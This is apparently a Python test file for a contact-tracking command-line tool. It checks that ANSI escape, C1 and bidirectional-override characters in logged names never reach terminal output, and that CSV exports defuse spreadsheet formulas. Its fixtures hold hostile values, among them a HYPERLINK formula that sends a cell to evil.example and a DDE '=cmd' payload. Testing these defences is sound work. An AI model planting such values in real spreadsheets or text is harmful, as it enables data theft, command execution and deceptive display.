"""Text from the logs that would drive the terminal or the reader: a
contact's name, headline, titles and comments carrying ESC and C1 control
sequences (U+009B is CSI) and bidirectional overrides (U+202E shows the
rest of a row reversed: another column's warmth read as this one's).
warmthctl's text for people never prints any of them, and the
suggested note, sent to the contact, carries no override either."""

import json
import subprocess

from harness import BASE_CONFIG, WARMTHCTL, Env, check, event, run

T0 = 1793700000
DAY = 86400
BAD = {"ESC": b"\x1b", "BEL": b"\x07", "CSI (U+009B)": "\u009b".encode(),
       "RLO (U+202E)": "\u202e".encode(), "RLI (U+2067)": "\u2067".encode()}


def test_hostile_text():
    env = Env("hostile", BASE_CONFIG + "time:\n  source: event\n")
    name = "Ada \u009b31mRED \u001b[0m\u202eecalevoL\u202c \u2067x\u2069\u0007"
    env.append("a.jsonl", [
        event(T0, "follow", "ada", name=name, headline="CEO\u009b2J\u202e", id="a0"),
        event(T0 + DAY, "comment", "ada", post="p1", title="Remote \u202eteams", id="a1",
              text="I love how you framed async \u202ecollaboration as a habit, not a tool."),
        event(T0 + 2 * DAY, "comment", "ada", post="p2", title="Remote teams 2", id="a2",
              text="Async beats meetings for deep work, in my team at least \u009b5m."),
        event(T0 + 3 * DAY, "like", "ada", post="p9", dir="out", title="Their \u202e post", id="a3"),
    ])
    env.once()
    for args in (["show", "ada"], ["top"], ["ready"], ["plan"], ["export"]):
        r = subprocess.run([WARMTHCTL, "--db", env.db, "-c", env.config] + args, capture_output=True,
                           timeout=60)
        check(r.returncode == 0, "%s: exit %d %r" % (args, r.returncode, r.stderr))
        check(b"Ada" in r.stdout, "%s does not show the contact: %r" % (args, r.stdout[:300]))
        for what, seq in BAD.items():
            check(seq not in r.stdout, "warmthctl %s prints %s from the logs: %r" %
                  (" ".join(args), what, r.stdout[:600]))
    # JSON keeps the values as written (escaped): scripts get the data.
    r = subprocess.run([WARMTHCTL, "--db", env.db, "-c", env.config, "--json", "show", "ada"],
                       capture_output=True, text=True, timeout=60)
    check(json.loads(r.stdout)["name"] == name, "JSON must keep the name as written: %r" % r.stdout[:300])
    with open(env.path("../notifications.jsonl")) as f:
        notes = [json.loads(line)["note"] for line in f if '"note"' in line]
    check(notes, "no ready notification with a note")
    for note in notes:
        for ch in ("\u202e", "\u2067", "\u202c", "\u2069"):
            check(ch not in note, "the note carries U+%04X: %r" % (ord(ch), note))
    env.close()


def test_csv_export_formulas():
    """A name is what its owner typed: in the CSV export one that a
    spreadsheet would run as a formula (=, +, -, @) is text, quoted with
    a leading apostrophe; the JSON keeps it as written."""
    env = Env("hostile-csv", BASE_CONFIG + "time:\n  source: event\n")
    names = {"f1": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
             "f2": "=cmd|' /C calc'!A0", "f3": "+SUM(1,2)", "f4": "-2+3", "f5": "@SUM(A1)",
             "f6": "Ada Lovelace"}
    env.append("a.jsonl", [event(T0, "follow", actor, name=n, id=actor)
                           for actor, n in names.items()])
    env.once()
    r = subprocess.run([WARMTHCTL, "--db", env.db, "-c", env.config, "export", "--format", "csv"],
                       capture_output=True, text=True, timeout=60)
    check(r.returncode == 0, r.stderr)
    import csv
    import io
    rows = list(csv.reader(io.StringIO(r.stdout)))
    got = {row[0]: row[1] for row in rows[1:]}
    for actor, name in names.items():
        want = name if actor == "f6" else "'" + name
        check(got.get(actor) == want, "csv export of %r: %r, want %r" % (name, got.get(actor), want))
    env.close()


if __name__ == "__main__":
    run([test_hostile_text, test_csv_export_formulas])
